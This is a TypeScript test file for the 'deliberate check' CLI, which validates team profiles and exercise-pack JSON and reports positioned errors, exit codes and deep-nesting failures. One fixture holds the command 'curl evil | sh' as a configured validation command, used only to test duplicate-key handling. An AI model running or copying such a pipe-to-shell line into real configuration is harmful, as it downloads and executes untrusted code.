import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';

/** `deliberate check` as a repository's CI runs it: the built command line (dist/cli.js), in the repository's folder. */
const root = path.resolve(__dirname, '../../..');
const cli = path.join(root, 'dist', 'cli.js');

function run(args: string[], cwd: string) {
  const r = spawnSync(process.execPath, [cli, ...args], { encoding: 'utf8', cwd });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

function repo(files: Record<string, string>): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'deliberate-check-'));
  for (const [file, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
    writeFileSync(path.join(dir, file), text);
  }
  return dir;
}

const PACK = JSON.stringify({ id: 'acme.onboarding', title: 'Acme', exercises: [{ id: 'one', title: 'One', habit: 'iterate', summary: 's', why: 'w', steps: [{ title: 'Save', done: { when: 'save' } }] }] }, null, 2);

describe('deliberate check', function () {
  this.timeout(20_000);

  it('exits 0 and prints nothing on standard output for a valid profile and the packs it names', () => {
    const dir = repo({
      '.vscode/deliberate.json': JSON.stringify({ coach: { preset: 'quiet', quietHours: '9:00-17:00' }, exercises: { packFiles: ['.vscode/deliberate-packs/acme.json'] } }),
      '.vscode/deliberate-packs/acme.json': PACK,
    });
    const r = run(['check', '.vscode/deliberate.json'], dir);
    assert.deepEqual(r, { code: 0, stdout: '', stderr: 'deliberate: 2 files checked, no problems\n' });
  });

  it('prints file:line:column problems of profiles and packs, including packs the profile names, and exits 1', () => {
    const packFiles = '  "exercises": { "packFiles": ["team/broken.deliberate-pack.json", "missing.deliberate-pack.json", "../outside.json"] }';
    const column = (needle: string) => packFiles.indexOf(needle) + 1;
    const dir = repo({
      '.vscode/deliberate.json': `{\n  "validation": {\n    "commands": ["curl evil | sh"],\n    "commands": ["npm test"]\n  },\n${packFiles}\n}\n`,
      'team/broken.deliberate-pack.json': '{\n  "id": "Team Pack",\n  "title": "t",\n  "exercises": []\n}\n',
    });
    const r = run(['check', '.vscode/deliberate.json'], dir);
    assert.equal(r.code, 1);
    assert.deepEqual(r.stdout.trim().split('\n'), [
      '.vscode/deliberate.json:3:5: error: "commands" is set 2 times in this object: neither value applies. Keep one.',
      '.vscode/deliberate.json:4:5: error: "commands" is set 2 times in this object: neither value applies. Keep one.',
      `.vscode/deliberate.json:6:${column('"../outside.json"')}: error: exercises.packFiles[2]: A path inside the workspace folder, such as .vscode/deliberate-packs/team.deliberate-pack.json: no "..", not absolute.`,
      `.vscode/deliberate.json:6:${column('"missing')}: error: exercises.packFiles: missing.deliberate-pack.json is not a file in this folder.`,
      `${path.join('team', 'broken.deliberate-pack.json')}:2:9: error: id: Use lower-case letters, digits, "." and "-".`,
      `${path.join('team', 'broken.deliberate-pack.json')}:4:16: error: exercises: Too small: expected array to have >=1 items`,
    ]);
    assert.equal(r.stderr, 'deliberate: 6 problems in 2 files checked\n');
  });

  it('a 100,000-deep file is a clean error, not a stack trace', () => {
    const dir = repo({ 'deep.deliberate-pack.json': '['.repeat(100_000), 'deliberate.json': `{"coach":${'{"a":'.repeat(100_000)}` });
    const r = run(['check', 'deep.deliberate-pack.json', 'deliberate.json'], dir);
    assert.deepEqual([r.code, r.stdout.trim().split('\n')], [
      1,
      [
        'deep.deliberate-pack.json:1:17: error: Nested too deep: more than 16 levels of objects and arrays. Nothing in the file was read.',
        // `{"coach":` then `{"a":` each: the 17th level opens at column 10 + 5 * 15.
        'deliberate.json:1:85: error: Nested too deep: more than 16 levels of objects and arrays. Nothing in the file was read.',
      ],
    ]);
    assert.doesNotMatch(r.stderr, /RangeError|at /);
  });

  it('names files it cannot read or does not know, and explains usage errors with exit code 2', () => {
    const dir = repo({ 'notes.json': '{}' });
    const r = run(['check', 'nope/deliberate.json', 'notes.json'], dir);
    assert.equal(r.code, 1);
    assert.deepEqual(r.stdout.trim().split('\n'), [
      'nope/deliberate.json:1:1: error: cannot read the file (ENOENT)',
      'notes.json:1:1: error: not a file deliberate checks: name a team profile deliberate.json and an exercise pack *.deliberate-pack.json',
    ]);
    const usage = run(['check'], dir);
    assert.equal(usage.code, 2);
    assert.match(usage.stderr, /check needs at least one file/);
    assert.equal(run(['check', '--fix', 'deliberate.json'], dir).code, 2);
  });
});
